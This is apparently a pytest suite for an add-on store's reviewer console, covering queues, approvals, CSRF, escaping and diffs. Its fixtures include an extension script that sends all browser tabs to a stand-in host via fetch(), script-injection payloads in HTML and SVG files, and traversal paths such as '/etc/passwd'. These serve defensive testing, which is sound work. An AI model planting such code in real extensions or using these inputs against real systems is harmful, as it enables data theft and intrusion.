"""The reviewer console as reviewers use it: the queue of listed versions awaiting review, a
version's review page, and approving or rejecting there, with the rules the API and the CLI
obey (roles, own add-ons, one decision per version, CSRF) worded on the page."""

import pytest
from sqlalchemy import select

from addonhub.accounts.models import User
from addonhub.catalog.models import Addon, Version
from addonhub.edge.models import PUBLISH, EdgeOperation
from addonhub.submissions.review import approve, pending_version, review_queue
from tests.packages.builders import extension, manifest
from tests.submissions.conftest import developer, jwt_headers  # noqa: F401 (fixtures)
from tests.submissions.test_signing_api import put
from tests.web.conftest import csrf_of, log_in_as
from tests.web.test_pages import text_of


# What 2.0 adds to 1.1's files (manifest.json and background.js), and how it changes background.js.
NEW_FILES = {
    "background.js": "console.log(1);\nbrowser.tabs.query({}).then(tabs => fetch('https://example.com/', {body: tabs}));",
    "popup.html": "<!doctype html><p>Hi</p><script>alert('popup')</script>",
    "icon.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg")</script></svg>',
    "data.bin": b"\x00\x01\x02\xff binary",
}


@pytest.fixture
def package(tmp_path):
    """A listed extension's package: package(version, permissions, **files)."""
    def package(version: str, permissions: list[str], hosts: tuple[str, ...] = (), guid: str = "test@example.org",
                **files) -> bytes:
        data = manifest(manifest_version=3, version=version, permissions=permissions, host_permissions=list(hosts),
                        background={"scripts": ["background.js"]}, browser_specific_settings={"gecko": {"id": guid}})
        return extension(tmp_path / f"{guid}-{version}.xpi", data, **{"background.js": "console.log(1);", **files}).read_bytes()
    return package


@pytest.fixture
def submitted(client, store, developer, package, run_jobs):  # noqa: F811 (fixture)
    """test@example.org: 1.0 unlisted (the signing API makes a new add-on so), 1.1 listed, approved
    and public; 2.0, asking for more, awaiting review."""
    _, headers = developer
    assert put(client, headers, package("1.0", ["storage"])).status_code in (201, 202)
    run_jobs()
    assert put(client, headers, package("1.1", ["storage"]), channel="listed").status_code in (201, 202)
    run_jobs()
    with store.db.session() as session:
        approve(session, pending_version(session, "test@example.org", "1.1"), None, "Fine.")
    run_jobs()
    assert put(client, headers, package("2.0", ["storage", "tabs"], ("https://example.com/*",), **NEW_FILES),
               channel="listed").status_code in (201, 202)
    run_jobs()
    with store.db.session() as session:
        version = session.scalar(select(Version).join(Addon, Addon.id == Version.addon_id)
                                 .where(Addon.guid == "test@example.org", Version.version == "2.0"))
        version.approval_notes = "Now reads tabs."  # what the v5 API's version PATCH sets
        return version.id


@pytest.fixture
def reviewer(account):
    return account("rita@example.org", role="reviewer", username="rita")[0]


def decide(client, version_id: int, decision: str, notes: str = ""):
    token = csrf_of(client.get(f"/reviewers/review/version/{version_id}"))
    return client.post(f"/reviewers/review/version/{version_id}", data={"csrf_token": token, "decision": decision,
                                                               "notes": notes}, follow_redirects=False)


def test_the_queue_lists_what_awaits_review_oldest_first_with_counts_and_filters(client, store, reviewer, submitted):
    log_in_as(client, store, reviewer)
    page = client.get("/reviewers/")
    assert page.status_code == 200
    text = text_of(page)
    assert "1 version awaits review" in text and "1 from AMO clients, 0 from Edge clients" in text
    assert f'href="/reviewers/review/version/{submitted}"' in page.text and "test@example.org" in text
    assert "Test Extension" in text and "2.0" in text
    with store.db.session() as session:
        assert [version.id for version in review_queue(session)] == [submitted]
    assert "No version awaits review." in text_of(client.get("/reviewers/?type=persona"))
    assert "No version awaits review." in text_of(client.get("/reviewers/?source=edge"))
    assert f"/reviewers/review/version/{submitted}" in client.get("/reviewers/?type=extension&source=amo").text
    # Filters the page does not know are ignored, not errors.
    assert client.get("/reviewers/?type=%00&source=<x>").status_code == 200


def test_edge_submissions_are_counted_and_filtered_as_such(client, store, reviewer, submitted):
    with store.db.session() as session:
        version = session.get(Version, submitted)
        developer_id = version.addon.authors[0].user_id
        session.add(EdgeOperation(kind=PUBLISH, addon_id=version.addon_id, user_id=developer_id, version_id=submitted))
    log_in_as(client, store, reviewer)
    assert "0 from AMO clients, 1 from Edge clients" in text_of(client.get("/reviewers/"))
    assert f"/reviewers/review/version/{submitted}" in client.get("/reviewers/?source=edge").text
    assert "No version awaits review." in text_of(client.get("/reviewers/?source=amo"))


def test_only_reviewers_and_admins_open_the_console(client, store, account, developer, submitted):  # noqa: F811
    for path in ("/reviewers/", f"/reviewers/review/version/{submitted}"):
        anonymous = client.get(path, follow_redirects=False)
        assert anonymous.status_code == 303 and anonymous.headers["location"] == f"/login?next={path.rstrip('/')}"
    log_in_as(client, store, developer[0])
    for path in ("/reviewers/", f"/reviewers/review/version/{submitted}"):
        refused = client.get(path)
        assert refused.status_code == 403 and "for reviewers and administrators" in text_of(refused)
    admin = account("ada@example.org", role="admin", username="ada")[0]
    log_in_as(client, store, admin)
    assert client.get("/reviewers/").status_code == 200


def test_the_header_links_the_console_for_reviewers_and_admins_only(client, store, account, developer):  # noqa: F811
    # "/" reads who is signed in from the cookie alone; My add-ons from the database.
    link = '<a href="/reviewers/">Reviewer console</a>'
    log_in_as(client, store, developer[0])
    assert all(link not in client.get(path).text for path in ("/", "/developers/addons/"))
    for role in ("reviewer", "admin"):
        log_in_as(client, store, account(f"{role}-header@example.org", role=role, username=f"{role}-header")[0])
        assert all(link in client.get(path).text for path in ("/", "/developers/addons/"))


def test_the_review_page_shows_validation_new_permissions_notes_history_and_reports(client, store, reviewer,
                                                                                     submitted):
    client.post("/api/v4/abuse/report/addon/", json={"addon": "test@example.org", "message": "Steals <b>tabs</b>"})
    log_in_as(client, store, reviewer)
    page = client.get(f"/reviewers/review/version/{submitted}")
    assert page.status_code == 200
    text = text_of(page)
    assert "Review Test Extension 2.0" in text
    assert "0 errors" in text and "Now reads tabs." in text
    assert "Marked new: not asked for by the approved version 1.1." in text
    assert "<mark>tabs <strong>(new)</strong></mark>" in page.text
    assert "<mark>https://example.com/* <strong>(new)</strong></mark>" in page.text
    assert "<li>storage</li>" in page.text
    assert "Steals <b>tabs</b>" in text and "<b>tabs</b>" not in page.text
    assert "approved 1.1" in text and "Fine." in text
    assert "No source code was uploaded." in text
    assert "Content-Security-Policy" in page.headers


def test_a_reviewer_approves_and_the_storefront_shows_the_new_version(client, store, reviewer, submitted, run_jobs):
    log_in_as(client, store, reviewer)
    answer = decide(client, submitted, "approve", "Tabs are needed.")
    assert answer.status_code == 303 and answer.headers["location"] == f"/reviewers/review/version/{submitted}?decided=approve"
    assert "Approved: the version is being signed and published." in text_of(client.get(answer.headers["location"]))
    run_jobs()
    assert client.get("/api/v4/addons/addon/test@example.org/").json()["current_version"]["version"] == "2.0"
    assert "No version awaits review." in text_of(client.get("/reviewers/"))


def test_a_rejection_needs_notes_and_reaches_the_developer(client, store, reviewer, developer, submitted):  # noqa: F811
    log_in_as(client, store, reviewer)
    refused = decide(client, submitted, "reject")
    assert refused.status_code == 400 and "A rejection needs notes for the developer." in text_of(refused)
    assert decide(client, submitted, "reject", "Reading tabs is not explained.").status_code == 303
    status = client.get("/api/v4/addons/test@example.org/versions/2.0/", headers=developer[1]).json()
    assert status["reviewed"] and not status["passed_review"]
    assert "This version is not awaiting review." in text_of(client.get(f"/reviewers/review/version/{submitted}"))


def test_the_second_of_two_reviewers_is_told_the_version_is_decided(client, store, account, reviewer, submitted):
    log_in_as(client, store, reviewer)
    token = csrf_of(client.get(f"/reviewers/review/version/{submitted}"))
    with store.db.session() as session:
        other = account("otto@example.org", role="reviewer", username="otto")[0]
        approve(session, session.get(Version, submitted), session.get(User, other), "First.")
    late = client.post(f"/reviewers/review/version/{submitted}", data={"csrf_token": token, "decision": "reject",
                                                               "notes": "Too late."}, follow_redirects=False)
    assert late.status_code == 409 and "Version 2.0 has already been reviewed." in text_of(late)
    assert "This version is not awaiting review." in text_of(late) and "First." in text_of(late)


def test_a_reviewer_cannot_review_their_own_addon(client, store, developer, submitted):  # noqa: F811
    with store.db.session() as session:
        session.get(User, developer[0]).role = "reviewer"
    log_in_as(client, store, developer[0])
    page = client.get(f"/reviewers/review/version/{submitted}")
    assert "You cannot review your own add-on." in text_of(page) and 'value="approve"' not in page.text
    token = csrf_of(page)
    refused = client.post(f"/reviewers/review/version/{submitted}", data={"csrf_token": token, "decision": "approve"},
                          follow_redirects=False)
    assert refused.status_code == 403 and "You cannot review your own add-on." in text_of(refused)
    with store.db.session() as session:
        assert session.get(Version, submitted).reviewed is None


def test_a_decision_without_the_csrf_token_is_refused_and_changes_nothing(client, store, reviewer, submitted):
    log_in_as(client, store, reviewer)
    refused = client.post(f"/reviewers/review/version/{submitted}", data={"decision": "approve", "notes": "Kept"},
                          follow_redirects=False)
    assert refused.status_code == 403 and "This form was not sent" in text_of(refused) and "Kept" in refused.text
    with store.db.session() as session:
        assert session.get(Version, submitted).reviewed is None


@pytest.mark.parametrize("path", ["/reviewers/review/version/0", "/reviewers/review/version/99999", "/reviewers/review/version/abc",
                                  "/reviewers/review/version/%00", "/reviewers/review/1e9", "/reviewers/review/version/-1/source"])
def test_odd_ids_are_not_found_pages(client, store, reviewer, path):
    log_in_as(client, store, reviewer)
    assert client.get(path).status_code == 404


def test_odd_decisions_are_worded_not_errors(client, store, reviewer, submitted):
    log_in_as(client, store, reviewer)
    odd = decide(client, submitted, "<script>")
    assert odd.status_code == 400 and "Choose to approve or to reject." in text_of(odd)
    token = csrf_of(client.get("/reviewers/"))
    assert client.post("/reviewers/review/version/abc", data={"csrf_token": token, "decision": "approve"}).status_code == 404


def test_the_file_tree_shows_package_files_as_escaped_text_under_a_strict_policy(client, store, reviewer, submitted):
    log_in_as(client, store, reviewer)
    tree = client.get(f"/reviewers/review/version/{submitted}/files")
    assert tree.status_code == 200
    assert [name for name in ("background.js", "data.bin", "icon.svg", "manifest.json", "popup.html")
            if f"?path={name}" in tree.text] == ["background.js", "data.bin", "icon.svg", "manifest.json", "popup.html"]
    for name, active in (("popup.html", "<script>alert('popup')</script>"), ("icon.svg", '<script>alert("svg")</script>')):
        page = client.get(f"/reviewers/review/version/{submitted}/files", params={"path": name})
        assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
        assert active in text_of(page) and active not in page.text and "&lt;script&gt;" in page.text
        policy = page.headers["content-security-policy"]
        assert "script-src 'none'" in policy and "default-src 'none'" in policy and "frame-ancestors 'none'" in policy
    binary = client.get(f"/reviewers/review/version/{submitted}/files", params={"path": "data.bin"})
    assert "A binary file of 11 bytes: not shown." in text_of(binary) and "\x00" not in binary.text
    lines = client.get(f"/reviewers/review/version/{submitted}/files", params={"path": "background.js"})
    assert '<tr id="L2"><th scope="row">2</th>' in lines.text and "browser.tabs.query" in text_of(lines)


@pytest.mark.parametrize("path", ["nothing.js", "../manifest.json", "/etc/passwd", "", "a" * 5000, "%00"])
def test_a_file_the_package_does_not_have_is_not_found(client, store, reviewer, submitted, path):
    log_in_as(client, store, reviewer)
    assert client.get(f"/reviewers/review/version/{submitted}/files", params={"path": path}).status_code == 404


def test_the_diff_lists_added_and_changed_files_and_their_lines(client, store, reviewer, submitted):
    log_in_as(client, store, reviewer)
    page = client.get(f"/reviewers/review/version/{submitted}/compare")
    assert page.status_code == 200 and "script-src 'none'" in page.headers["content-security-policy"]
    text = text_of(page)
    assert "Compared with the approved version 1.1." in text
    assert "popup.html (added)" in text and "icon.svg (added)" in text and "data.bin (added)" in text
    assert "background.js (changed)" in text and "manifest.json (changed)" in text
    assert "0 files unchanged." in text and "META-INF" not in text  # 1.1's signature is the store's
    assert "<ins>browser.tabs.query({}).then(tabs =&gt; fetch(&#39;https://example.com/&#39;, {body: tabs}));</ins>" in page.text
    assert "<tr class=\"diff-context\"><th scope=\"row\"></th><td><pre>console.log(1);</pre>" in page.text
    assert "<ins>&lt;!doctype html&gt;&lt;p&gt;Hi&lt;/p&gt;&lt;script&gt;" in page.text
    assert "A binary file: its lines are not compared." in text


def test_a_first_version_has_nothing_to_compare_with(client, store, reviewer, submitted):
    with store.db.session() as session:
        first = session.scalar(select(Version.id).where(Version.version == "1.1"))
    log_in_as(client, store, reviewer)
    assert "nothing to compare with" in text_of(client.get(f"/reviewers/review/version/{first}/compare"))


def test_the_apis_review_url_leads_to_the_version_awaiting_review(client, store, reviewer, submitted):
    log_in_as(client, store, reviewer)
    review_url = client.get("/api/v5/addons/addon/test@example.org/").json()["review_url"]
    answer = client.get(review_url, follow_redirects=False)
    assert answer.status_code == 303 and answer.headers["location"] == f"/reviewers/review/version/{submitted}"
    assert client.get("/reviewers/review/nobody@example.org").status_code == 404


def test_the_developers_source_is_a_download_for_reviewers(client, store, reviewer, developer, submitted):  # noqa: F811
    source = b"PK\x05\x06" + b"\x00" * 18  # an empty zip archive
    patched = client.patch(f"/api/v5/addons/addon/test@example.org/versions/{submitted}/", headers=developer[1],
                           files={"source": ("source.zip", source, "application/zip")})
    assert patched.status_code == 200, patched.json()
    log_in_as(client, store, reviewer)
    page = client.get(f"/reviewers/review/version/{submitted}")
    assert f'href="/reviewers/review/version/{submitted}/source"' in page.text
    download = client.get(f"/reviewers/review/version/{submitted}/source")
    assert download.status_code == 200 and download.content == source
    assert download.headers["content-type"] == "application/octet-stream"
    assert download.headers["content-disposition"] == 'attachment; filename="test-extension-2.0-source.zip"'
    log_in_as(client, store, developer[0])
    assert client.get(f"/reviewers/review/version/{submitted}/source").status_code == 403


def test_the_oldest_submission_comes_first(client, store, reviewer, developer, package, submitted, run_jobs):  # noqa: F811
    _, headers = developer
    guid = "later@example.org"
    assert put(client, headers, package("1.0", [], guid=guid), guid=guid).status_code in (201, 202)
    run_jobs()
    assert put(client, headers, package("1.1", [], guid=guid), guid=guid, channel="listed").status_code in (201, 202)
    run_jobs()
    log_in_as(client, store, reviewer)
    page = client.get("/reviewers/")
    assert "2 versions await review" in text_of(page)
    assert page.text.index("<small>test@example.org</small>") < page.text.index(f"<small>{guid}</small>")
